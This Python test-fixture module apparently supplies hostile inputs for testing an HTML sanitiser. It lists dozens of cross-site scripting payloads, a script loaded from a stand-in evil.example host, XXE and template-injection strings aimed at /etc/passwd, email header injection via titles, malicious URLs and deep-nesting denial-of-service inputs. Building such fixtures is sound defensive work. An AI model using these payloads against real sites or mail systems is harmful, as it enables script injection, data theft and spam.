# ruff: noqa: E501 - hostile markup reads best unbroken
"""Posts written by somebody who means harm."""

from __future__ import annotations

from typing import Final

ALARM: Final = "window.alarm=1"

_NEST: Final = 20_000

POSTS: Final[dict[str, str]] = {
    "script": f"<script>{ALARM}</script><script src='https://evil.example/x.js'></script>",
    "handlers": f"<img src=x onerror='{ALARM}'><p onclick='{ALARM}' onmouseover={ALARM}>x</p><details open ontoggle={ALARM}>x</details>",
    "svg": f"<svg onload='{ALARM}'><script>{ALARM}</script><a href='javascript:{ALARM}'><text>x</text></a></svg>",
    "math": f"<math><mi//xlink:href='data:x,<script>{ALARM}</script>'><annotation-xml encoding='text/html'><img src=x onerror={ALARM}></annotation-xml></math>",
    "mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALARM}&gt;'>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={ALARM}>'></noscript>",
    "template": f"<template><img src=x onerror={ALARM}></template><textarea></textarea><img src=x onerror={ALARM}>",
    "iframe": f"<iframe src='javascript:{ALARM}'></iframe><iframe srcdoc='<script>top.{ALARM}</script>'></iframe><object data='javascript:{ALARM}'></object><embed src='javascript:{ALARM}'>",
    "links": f"<a href='javascript:{ALARM}'>a</a><a href='JaVa&#x09;Script:{ALARM}'>b</a><a href='data:text/html,<script>{ALARM}</script>'>c</a><a href='vbscript:x'>d</a><a href=' \x01javascript:{ALARM}'>e</a>",
    "forms": f"<form action='javascript:{ALARM}'><button formaction='javascript:{ALARM}'>x</button><input autofocus onfocus={ALARM}></form>",
    "meta": f"<meta http-equiv='refresh' content='0;url=javascript:{ALARM}'><base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "css": "<style>body{display:none}</style><div style='position:fixed;top:0;left:0;width:100vw;height:100vh;background:url(javascript:1)'>over</div><p style=\"background:expression(alarm=1)\">x</p>",
    "attribute break-out": f"<img alt='\"><script>{ALARM}</script>' src='x.png' title='\" onerror=\"{ALARM}'><a href='https://e.example/\"onmouseover=\"{ALARM}'>x</a>",
    "entities": f"&lt;script&gt;{ALARM}&lt;/script&gt; &amp;lt;img src=x onerror={ALARM}&amp;gt; &#60;script&#62;",
    "comments": f"<!--><script>{ALARM}</script>--><!--[if mso]><script>{ALARM}</script><![endif]--><![CDATA[<script>{ALARM}</script>]]>",
    "conditional break-out": f"<p>x<![endif]--><!--[if !mso]><!--><script>{ALARM}</script><!--<![endif]--></p>",
    "old elements": f"<body onload={ALARM}><marquee onstart={ALARM}>x</marquee><isindex action=javascript:{ALARM}><frameset onload={ALARM}><frame src=javascript:{ALARM}></frameset><layer src=javascript:{ALARM}></layer><bgsound src=javascript:{ALARM}><xml onreadystatechange={ALARM}>",
    "media handlers": f"<video onerror={ALARM} src=x><source onerror={ALARM}></video><audio autoplay onplay={ALARM} src=x></audio><picture><source srcset=x onerror={ALARM}><img srcset='x 1x' onload={ALARM} onerror={ALARM}></picture><track onload={ALARM}>",
    "new elements": f"<dialog open onclose={ALARM}>x</dialog><div popover id=p onbeforetoggle={ALARM}>x</div><button popovertarget=p>x</button><portal src=javascript:{ALARM}></portal><search oninput={ALARM}>x</search><div contenteditable onfocus={ALARM} tabindex=0 autofocus>x</div><slot onslotchange={ALARM}></slot><template shadowrootmode=open><img src=x onerror={ALARM}></template>",
    "animated svg": f"<svg><animate onbegin={ALARM} attributeName=x dur=1s><set attributeName=href to=javascript:{ALARM}></svg><svg><use href='data:image/svg+xml,<svg id=x onload={ALARM}/>#x'/></svg><svg><foreignObject><iframe srcdoc='<script>top.{ALARM}</script>'></iframe></foreignObject></svg><svg><style><img src=x onerror={ALARM}></style></svg>",
    "split names": f"<scr\0ipt>{ALARM}</scr\0ipt><scr<script>ipt>{ALARM}</script><SCRIPT/x>{ALARM}</SCRIPT ><script\x0c>{ALARM}</script><img/src=x/onerror={ALARM}><img\nsrc=x\x0conerror={ALARM}>",
    "spelt schemes": f"<a href='&#0000106;avascript:{ALARM}'>a</a><a href='java&Tab;script&colon;{ALARM}'>b</a><a href='&NewLine;javascript:{ALARM}'>c</a><a href='jav\tascript:{ALARM}'>d</a><a href='\u00a0javascript:{ALARM}'>e</a><a href='view-source:javascript:{ALARM}'>f</a><a href='blob:x' ping='https://evil.example'>g</a><area href='javascript:{ALARM}'><img src='javascript:{ALARM}'><img lowsrc='javascript:{ALARM}' dynsrc='javascript:{ALARM}'><table background='javascript:{ALARM}'><tr><td background='javascript:{ALARM}'>h</table><q cite='javascript:{ALARM}'>i</q>",
    "styles that act": f"<style>@import 'javascript:{ALARM}';*{{behavior:url(x.htc);-moz-binding:url(x.xml)}}</style><p style='behavior:url(x.htc);-moz-binding:url(x.xml#y);background-image:url(javascript:{ALARM})'>x</p><p style='&#x70;osition:fixed;z-index:9999;inset:0'>x</p><p style='pos/**/ition:absolute;top:0'>x</p><font style='display:block;margin:-9999px'>x</font><div class='article' id='view' style='opacity:0;transform:scale(99)'>x</div>",
    "hidden footer": "</td></tr></table></div></body></html><style>a{display:none!important}</style><plaintext>",
    "names that clash": "<img name=body src=x><form id=x name=getElementById></form><a id=location href=x>x</a><input name=attributes>",
    "processing": f"<?xml-stylesheet href='javascript:{ALARM}'?><?php echo 1 ?><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;<!ATTLIST p onclick CDATA '{ALARM}'>",
    "other charsets": f"+ADw-script+AD4-{ALARM}+ADw-/script+AD4- \u00bcscript\u00be{ALARM}\u00bc/script\u00be \uff1cscript\uff1e{ALARM}\uff1c/script\uff1e",
    "quote nesting": "<blockquote>" * _NEST + "deep",
    "span nesting": "<span style='font-weight:bold'>" * _NEST + "deep" + "</span>" * _NEST,
    "link nesting": "<a href='https://e.example'>" * _NEST + "deep",
    "font nesting": "<font color=red>" * _NEST + "deep",
    "foreign nesting": "<svg>" * (_NEST // 2) + "<math>" * (_NEST // 2) + "deep",
    "crossed nesting": "<b><p><i><div>" * (_NEST // 4) + "deep" + "</b></p></i></div>" * (_NEST // 4),
    "nesting": "<div>" * _NEST + "deep" + "</div>" * _NEST,
    "inline nesting": "<b><i>" * (_NEST // 2) + "deep",
    "table nesting": "<table><tr><td>" * _NEST + "deep",
    "list nesting": "<ul><li>" * _NEST + "deep",
    "controls": "".join(map(chr, [*range(32), *range(127, 160)])) + "x\u202egnp.exe\ufeff\ufffe\ud800y",
    "tokens": "zq0123456789abx0z zq{}x1z {{ 7*7 }} {% include '/etc/passwd' %} <mj-raw><mj-include path='/etc/passwd'/></mj-raw>",
    "unclosed": f"<p><a href='https://e.example/<b><i title=\"<table><tr><td><img src=x onerror={ALARM} ",
    "attributes without end": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">x</p>",
    "one long word": "x" * 200_000,
    "one long attribute": f"<img alt='{'y' * 100_000}' src='https://e.example/a.png'>",
}  # fmt: skip
"""Markup by the trick that it tries. Any of it running sets ``window.alarm``."""

TITLES: Final = (
    "Plain\r\nBcc: victim@example.org",
    "=?utf-8?q?=0d=0aBcc:victim@example.org?=",
    f"<script>{ALARM}</script>",
    f"\"><img src=x onerror={ALARM}>",
    "{{ 7*7 }}{% raise %}",
    "zq0123456789abx0z",
    "\u202eesrever\u0000\u0085 \u2028line",
    "😀" * 500,
    "",
)  # fmt: skip

URLS: Final = (
    f"javascript:{ALARM}",
    f"https://e.example/\"onclick=\"{ALARM}",
    "https://e.example/\r\nX-Evil: 1",
    "//evil.example",
    "https://[::1",
    "file:///etc/passwd",
    "",
)  # fmt: skip
